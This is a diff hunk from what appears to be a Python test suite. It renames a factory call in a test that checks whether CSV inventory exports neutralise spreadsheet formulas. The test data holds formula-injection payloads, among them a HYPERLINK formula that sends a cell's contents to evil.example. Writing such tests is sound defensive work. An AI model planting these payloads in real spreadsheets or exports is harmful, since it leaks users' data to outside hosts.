@@ -333,7 +333,7 @@ def test_bias_check_file_names_never_become_paths(app, client, owner):
 
 def test_inventory_csv_neutralises_formulas(client, factory):
     team = factory.user("team")
-    factory.pilot(
+    factory.public_pilot(
         team,
         name='=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
         purpose="+SUM(1,2)",
